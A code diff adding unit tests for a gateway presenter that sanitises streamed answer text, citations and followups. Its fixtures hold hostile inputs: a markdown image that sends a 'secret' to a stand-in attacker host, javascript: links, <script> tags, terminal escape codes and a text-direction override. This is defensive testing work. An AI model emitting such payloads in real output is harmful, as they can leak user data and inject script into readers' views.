@@ -8,10 +8,11 @@ import pytest
 
 from services.gateway.cursor import Cursor
 from services.gateway.presenter import OUTCOMES, Frame, Presenter, overdue, question_json, result_json, status_of
+from shared.domain import Citation, Context
 from shared.facts import FACTS, TERMINAL, Fact, QuestionAbandoned, QuestionRejected
 from shared.signals import Token
 from tests.contracts.samples import sample_events
-from tests.unit.gateway.run import CID, CITATIONS, FOLLOWUPS, asked, drafted, last_id, read, run, stored, then
+from tests.unit.gateway.run import CID, CITATIONS, FOLLOWUPS, asked, drafted, last_id, read, run, stored, then, verified
 
 SAMPLES = sample_events()
 STATUSES = {
@@ -345,3 +346,57 @@ def test_an_overdue_question_gets_a_result_of_the_usual_shape_that_is_no_fact() 
     assert not result.id
     assert set(result.data["result"]) >= RESULT_KEYS
     assert result.data["result"]["error"] == {"kind": "deadline", "stage": "gateway"}
+
+
+HOSTILE = "It opens <b>at eight</b>. ![x](https://evil.example/p.png?q=secret) [more](javascript:alert(1))\x1b[2J"
+SHOWN = "It opens < b>at eight< /b>. ! [x] [more][2J"
+
+
+def test_tokens_that_are_not_clean_are_not_shown_and_the_draft_brings_the_clean_text() -> None:
+    presenter = Presenter()
+    frames = presenter.token(Token(attempt=0, offset=0, text=HOSTILE[:9]))
+    frames += presenter.token(Token(attempt=0, offset=9, text=HOSTILE[9:30]))
+    frames += presenter.token(Token(attempt=0, offset=30, text="and so on"))
+
+    frames += presenter.fact(then(asked(), drafted(HOSTILE)), 5)
+
+    assert texts(frames) == ["It opens ", SHOWN[9:], "status"]
+    assert read(frames).text == SHOWN
+
+
+def test_a_new_beginning_is_shown_again() -> None:
+    presenter = Presenter()
+    presenter.token(Token(attempt=0, offset=0, text="<b>"))
+
+    assert texts(presenter.token(Token(attempt=0, draft=7, offset=0, text="At eight."))) == ["At eight."]
+
+
+def test_a_tag_that_comes_in_two_tokens_is_not_shown() -> None:
+    presenter = Presenter()
+
+    frames = [*presenter.token(Token(attempt=0, offset=0, text="a <"))]
+    frames += presenter.token(Token(attempt=0, offset=3, text="script>"))
+
+    assert texts(frames) == ["a <"]
+
+
+def test_whatever_a_verdict_says_its_result_is_clean() -> None:
+    citation = Citation(number=1, source="kb:a", passage="a", title="<i>x", url="javascript:alert(1)", quote="\x1bq")
+    fact = verified(HOSTILE).model_copy(
+        update={"citations": (citation,), "followups": ("<script>?",), "context": Context(topic="\u202etopic")}
+    )
+
+    frames = Presenter().fact(then(asked(), fact), 5)
+    result = frames[-1].data["result"]
+
+    assert result["answer"]["content"] == SHOWN
+    assert result["answer"]["sentences"][0]["text"] == SHOWN
+    assert (result["citations"][0]["title"], result["citations"][0]["url"], result["citations"][0]["quote"]) == (
+        "< i>x",
+        "",
+        "q",
+    )
+    assert result["followups"] == ["< script>?"]
+    assert result["context"]["topic"] == "topic"
+    assert [frame.data for frame in frames if frame.event == "citation"] == result["citations"]
+    assert [frame.data for frame in frames if frame.event == "followups"] == [{"questions": ["< script>?"]}]
